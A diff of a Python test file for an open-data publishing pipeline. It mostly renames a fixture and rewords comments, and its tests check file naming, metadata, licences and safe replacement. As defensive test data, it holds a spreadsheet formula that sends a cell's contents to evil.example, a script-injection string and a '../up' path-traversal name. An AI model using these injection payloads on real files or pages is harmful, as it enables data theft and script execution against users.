@@ -1,4 +1,4 @@
-"""The open-data folder: whole, named, described from the contracts, the same twice, and harmless."""
+"""The open-data folder is complete, named by release, described from the contracts, reproducible and safe."""
 
 from __future__ import annotations
 
@@ -19,7 +19,7 @@ from lxml import html
 from spi_pipeline.contracts.errors import SpiError
 from spi_pipeline.outputs.open_data import publish as publishing
 from spi_pipeline_tests.integration.fixtures import Command
-from spi_pipeline_tests.integration.houses import House
+from spi_pipeline_tests.integration.sandboxes import Sandbox
 from spi_pipeline_tests.outputs.open_data.conftest import RELEASE, Changed, Opened, publish_to
 
 HOSTILE = '=HYPERLINK("http://evil.example?x="&A1,"Farley")'
@@ -49,7 +49,7 @@ def test_every_file_has_its_sum_and_each_to_take_away_the_release_in_its_name(op
     assert all(re.fullmatch(rf"downloads/[a-z_]+-{RELEASE}\.[a-z]+", path) for path in found if "/" in path)
 
 
-def test_it_is_as_small_and_as_quick_as_is_promised(refreshed: House, tmp_path: Path) -> None:
+def test_it_is_as_small_and_as_quick_as_is_promised(refreshed: Sandbox, tmp_path: Path) -> None:
     before = time.process_time()
     publish_to(refreshed, tmp_path / "folder")
     assert time.process_time() - before < 15
@@ -79,7 +79,7 @@ def test_every_table_is_described_as_its_contract_says(opened: Opened) -> None:
     assert resources["score"]["schema"]["foreignKeys"] == [
         {"fields": ["area_code"], "reference": {"resource": "area", "fields": ["area_code"]}}
     ]
-    # It may be "outside".
+    # The area code of an allocation may be "outside".
     assert "foreignKeys" not in resources["allocation"]["schema"]
 
 
@@ -89,7 +89,7 @@ def test_licences_and_every_source_with_its_attribution_stand_in_each_descriptio
     readme = (opened.folder / "README.md").read_text("utf-8")
     assert [licence["name"] for licence in package["licenses"]] == ["OGL-UK-3.0"]
     assert package["version"] == linked["version"] == RELEASE
-    # Several sources may come from one address and owe different words.
+    # Several sources may share an address but require different attributions.
     owed = {source["path"] for source in package["sources"]}
     assert "https://github.com/PlaceBasedCarbonCalculator/PublicTransportAnalysis" in owed
     assert {source["creditText"] for source in linked["isBasedOn"]} == {
@@ -101,7 +101,7 @@ def test_licences_and_every_source_with_its_attribution_stand_in_each_descriptio
 
 
 def test_what_a_publisher_restricts_stands_beside_its_licence(
-    refreshed: House, changed: Changed, tmp_path: Path
+    refreshed: Sandbox, changed: Changed, tmp_path: Path
 ) -> None:
     def asked(releases: pa.Table) -> pa.Table:
         ids = ["local_health" if name == "bus_service" else name for name in releases["source_id"].to_pylist()]
@@ -150,7 +150,7 @@ def test_the_same_publication_gives_the_same_bytes_and_a_database_of_the_same_ta
                     assert connection.execute(f"SELECT count(*) FROM ({rest})").fetchall() == [(0,)], name
 
 
-def test_an_earlier_release_is_replaced_whole(refreshed: House, tmp_path: Path) -> None:
+def test_an_earlier_release_is_replaced_whole(refreshed: Sandbox, tmp_path: Path) -> None:
     publish_to(refreshed, tmp_path / "folder", release="2025-1")
     publish_to(refreshed, tmp_path / "folder")
     assert not [path for path in files(tmp_path / "folder") if "2025-1" in path]
@@ -158,14 +158,14 @@ def test_an_earlier_release_is_replaced_whole(refreshed: House, tmp_path: Path) 
     assert [path.name for path in tmp_path.iterdir()] == ["folder"]
 
 
-def test_what_others_wrote_is_never_replaced(refreshed: House, tmp_path: Path) -> None:
+def test_what_others_wrote_is_never_replaced(refreshed: Sandbox, tmp_path: Path) -> None:
     folder = tmp_path / "folder"
     publish_to(refreshed, folder)
     (folder / "CNAME").write_text("data.example.org", encoding="utf-8")
     mine = tmp_path / "mine"
     mine.mkdir()
     (mine / "thesis.txt").write_text("years of work", encoding="utf-8")
-    # Sums alone do not make a folder one of ours.
+    # Checksums alone do not prove that spi publish wrote a folder.
     (mine / "checksums.txt").write_text(f"{'0' * 64}  thesis.txt\n", encoding="utf-8")
     linked = tmp_path / "linked"
     linked.mkdir()
@@ -184,7 +184,7 @@ def test_what_others_wrote_is_never_replaced(refreshed: House, tmp_path: Path) -
 
 
 def test_what_fails_on_the_way_leaves_the_earlier_release(
-    refreshed: House, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    refreshed: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     def full(*_: object) -> None:
         raise OSError(28, "No space left on device")
@@ -199,13 +199,15 @@ def test_what_fails_on_the_way_leaves_the_earlier_release(
         assert [path.name for path in tmp_path.iterdir()] == ["folder"]
 
 
-def test_a_release_is_a_word_that_may_stand_in_a_name(refreshed: House, tmp_path: Path) -> None:
+def test_a_release_is_a_word_that_may_stand_in_a_name(refreshed: Sandbox, tmp_path: Path) -> None:
     with pytest.raises(SpiError, match=r"'../up' cannot name a release"):
         publish_to(refreshed, tmp_path / "folder", release="../up")
     assert list(tmp_path.iterdir()) == []
 
 
-def test_an_area_named_like_a_formula_is_a_text_everywhere(refreshed: House, changed: Changed, tmp_path: Path) -> None:
+def test_an_area_named_like_a_formula_is_a_text_everywhere(
+    refreshed: Sandbox, changed: Changed, tmp_path: Path
+) -> None:
     def named(areas: pa.Table) -> pa.Table:
         names = [HOSTILE if name == "Farley" else name for name in areas["area_name"].to_pylist()]
         return areas.set_column(areas.column_names.index("area_name"), "area_name", pa.array(names))
@@ -223,7 +225,7 @@ def test_an_area_named_like_a_formula_is_a_text_everywhere(refreshed: House, cha
         assert not re.search(r'(^|,)"[=+\-@\t\r\n]', file.read_text("utf-8"), re.MULTILINE), file.name
 
 
-def test_a_name_cannot_end_the_script_of_the_page(refreshed: House, changed: Changed, tmp_path: Path) -> None:
+def test_a_name_cannot_end_the_script_of_the_page(refreshed: Sandbox, changed: Changed, tmp_path: Path) -> None:
     name = "</script><script>alert(1)</script>"
 
     def called(areas: pa.Table) -> pa.Table:
@@ -237,17 +239,17 @@ def test_a_name_cannot_end_the_script_of_the_page(refreshed: House, changed: Cha
     assert json.loads(script.text)["spatialCoverage"]["name"] == name
 
 
-def test_the_command_names_the_files_by_the_publication(refreshed: House, spi: Command, tmp_path: Path) -> None:
+def test_the_command_names_the_files_by_the_publication(refreshed: Sandbox, spi: Command, tmp_path: Path) -> None:
     said = spi(refreshed, "publish", str(tmp_path / "folder"))
     assert said.code == 0, said.err
     version = refreshed.store.published.resolve().name
     assert (tmp_path / "folder" / "downloads" / f"score-{version}.csv").is_file()
     files = [path for path in (tmp_path / "folder" / "downloads").iterdir() if path.is_file()]
-    assert f"{len(files)} files to take away" in said.out
+    assert f"{len(files)} files to download" in said.out
 
 
-def test_where_nothing_is_published_a_sentence_says_so(spi: Command, tmp_path: Path, refreshed: House) -> None:
-    empty = House(refreshed.settings.model_copy(update={"store": str(tmp_path / "empty")}))
+def test_where_nothing_is_published_a_sentence_says_so(spi: Command, tmp_path: Path, refreshed: Sandbox) -> None:
+    empty = Sandbox(refreshed.settings.model_copy(update={"store": str(tmp_path / "empty")}))
     said = spi(empty, "publish", str(tmp_path / "folder"))
     assert (said.code, said.out) == (1, "")
     assert "nothing is published" in said.err
